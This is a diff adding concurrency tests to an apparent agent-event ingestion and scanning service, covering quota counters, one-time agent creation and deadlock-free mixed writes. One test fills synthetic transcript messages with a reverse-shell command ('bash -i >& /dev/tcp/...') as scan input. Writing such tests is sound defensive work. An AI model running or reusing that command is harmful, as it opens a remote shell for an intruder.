@@ -232,6 +232,55 @@ describe("usage against the Free quota", () => {
     const days = await db().usageDay.findMany({ where: { organizationId: t.organization.id } });
     expect(days.reduce((sum, d) => sum + d.used, 0)).toBe(1_000);
   });
+
+  // Paid tiers charge the meter last in the transaction rather than first: the counts must stay as exact.
+  it("keeps Team counters and overage exact under 16 concurrent writers crossing the quota", async () => {
+    const t = await nearQuota("team-concurrent", 999_000);
+    await db().organization.update({ where: { id: t.organization.id }, data: { tier: "team" } });
+    const answers = await Promise.all(Array.from({ length: 16 }, () => postEvents(t.secret, Array.from({ length: 100 }, () => event()))));
+    expect(answers.map((a) => a.status)).toEqual(Array(16).fill(200));
+    expect(answers.reduce((sum, a) => sum + a.body.stored, 0)).toBe(1_600);
+    expect(await db().scanEvent.count({ where: { projectId: t.project.id } })).toBe(1_600);
+    expect(await db().usageMonth.findFirstOrThrow({ where: { organizationId: t.organization.id } })).toMatchObject({ used: 1_000_600, overage: 600, dropped: 0 });
+    const days = await db().usageDay.findMany({ where: { organizationId: t.organization.id } });
+    expect(days.reduce((sum, d) => sum + d.used, 0)).toBe(1_600);
+  });
+});
+
+describe("concurrent writers of one project", () => {
+  it("create each new agent once when concurrent batches name the same new agents", async () => {
+    const t = await createTenantWithKey("agents-race");
+    const names = ["planner", "coder", "executor", "reviewer", "web_surfer"];
+    const answers = await Promise.all(
+      Array.from({ length: 12 }, () => postEvents(t.secret, Array.from({ length: 20 }, (_, i) => event({ id: randomUUID(), agent_id: names[i % names.length] })))),
+    );
+    expect(answers.map((a) => a.body.stored)).toEqual(Array(12).fill(20));
+    const agents = await db().agent.findMany({ where: { projectId: t.project.id }, select: { name: true } });
+    expect(agents.map((a) => a.name).sort()).toEqual([...names].sort());
+    expect(await db().scanEvent.count({ where: { projectId: t.project.id } })).toBe(240);
+  });
+
+  it("stores concurrent transcripts and event batches of the same agents without a deadlock", async () => {
+    const t = await createTenantWithKey("mixed-writers");
+    await db().organization.update({ where: { id: t.organization.id }, data: { tier: "team" } });
+    const senders = ["Orchestrator", "WebSurfer", "Coder"];
+    const now = Date.now();
+    const transcript = (c: number) => ({
+      conversation_id: `mixed-${c}`,
+      scan: true,
+      transcript: {
+        messages: Array.from({ length: 30 }, (_, m) => ({ sender: senders[m % 3], content: `step ${m}: bash -i >& /dev/tcp/10.0.0.${c}/4242 0>&1`, created_at: new Date(now - m * 1000).toISOString() })),
+      },
+    });
+    const batch = () => Array.from({ length: 30 }, (_, i) => event({ id: randomUUID(), agent_id: senders[i % 3], occurred_at: new Date(now - i * 1000).toISOString() }));
+    const answers = await Promise.all(
+      Array.from({ length: 8 }, (_, c) => (c % 2 === 0 ? postConversation(t.secret, transcript(c)) : postEvents(t.secret, batch()))),
+    );
+    expect(answers.map((a) => a.status)).toEqual(Array(8).fill(200));
+    expect(answers.reduce((sum, a) => sum + a.body.stored, 0)).toBe(240);
+    // Transcript messages are the billed unit; their scans are not billed again.
+    expect(await db().usageMonth.findFirstOrThrow({ where: { organizationId: t.organization.id } })).toMatchObject({ used: 240 });
+  });
 });
 
 describe("read API", () => {
